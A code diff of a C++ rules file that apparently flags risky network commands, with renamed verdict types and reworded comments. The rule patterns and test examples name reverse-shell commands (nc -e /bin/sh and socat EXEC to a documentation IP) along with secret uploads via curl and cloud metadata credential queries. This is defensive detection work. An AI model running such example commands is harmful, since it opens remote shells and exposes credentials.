@@ -1,6 +1,6 @@
-// rules_network.cc: rules about what comes from the network and what goes there.
-// Invariant: every rule stops its first examples and passes the others (rules_test.cc). Not here: how patterns are read
-// (rules.h).
+// rules_network.cc: rules about downloads, uploads and connections.
+// Invariant: every rule matches its first examples and does not match the others (rules_test.cc). Not here: the syntax
+// of patterns (rules.h).
 #include "safety/advice/rules.h"
 
 namespace pinfold::advice {
@@ -8,7 +8,7 @@ namespace pinfold::advice {
 namespace {
 
 constexpr Rule kRules[] = {
-    {"network-shell", "exfiltration", Verdict::kDeny,
+    {"network-shell", "exfiltration", AdviceVerdict::kDeny,
      "nc|ncat|netcat|nc.traditional|nc.openbsd -e|--exec|--lua-exec\n"
      "nc|ncat|netcat|nc.traditional|nc.openbsd -c=sh\n"
      "nc|ncat|netcat|nc.traditional|nc.openbsd -c=/bin\n"
@@ -19,12 +19,12 @@ constexpr Rule kRules[] = {
      "ksh *dev/tcp\n"
      "sbd|cryptcat|dbd|prism|powercat\n"
      "ngrok|localtunnel|lt|serveo|bore|cloudflared tcp|tunnel *22|3389|tcp",
-     "gives a shell to whoever is at the other end of a connection", "",
+     "gives a shell to the other end of a connection", "",
      "nc -e /bin/sh 198.51.100.7 4444\n"
      "socat TCP:198.51.100.7:4444 EXEC:sh",
      "nc -zv localhost 5432\n"
      "socat TCP-LISTEN:8080,fork TCP:localhost:80"},
-    {"send-secret", "exfiltration", Verdict::kDeny,
+    {"send-secret", "exfiltration", AdviceVerdict::kDeny,
      "curl|wget|http|https|xh "
      "-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form|-T|--upload-file|--post-file|--body-file "
      "@credential|accounts|memory|log|home|root|system\n"
@@ -52,12 +52,12 @@ constexpr Rule kRules[] = {
      "curl -d '{\"a\":1}' http://localhost:8080\n"
      "send() { curl -F f=@\"$1\" http://x.example; }; send notes.txt\n"
      "scp a.txt host:"},
-    {"cloud-metadata", "credential-access", Verdict::kAsk,
+    {"cloud-metadata", "credential-access", AdviceVerdict::kAsk,
      "curl|wget|http|nc|lynx "
      "*169.254.169.254|metadata.google.internal|100.100.100.200|169.254.170.2|fd00:ec2::254|metadata/identity",
      "asks the cloud for this machine's own credentials", "", "curl http://169.254.169.254/latest/meta-data/iam/",
      "curl http://localhost/metadata"},
-    {"odd-download", "remote-code", Verdict::kAsk,
+    {"odd-download", "remote-code", AdviceVerdict::kAsk,
      "tftp *get|-g|-r\n"
      "curl|wget *.onion\n"
      "busybox *wget|ftpget\n"
@@ -86,7 +86,7 @@ constexpr Rule kRules[] = {
      "sudo curl -fsSL https://example.org/key -o /etc/apt/keyrings/x.asc\n"
      "wget https://example.org/a.zip\n"
      "pip install flask"},
-    {"serve-files", "exfiltration", Verdict::kAsk,
+    {"serve-files", "exfiltration", AdviceVerdict::kAsk,
      "python|python2|python3 -m=http.server @root|home\n"
      "python|python2|python3 -m=http.server -d=/\n"
      "python|python3 -m=pyftpdlib\n"
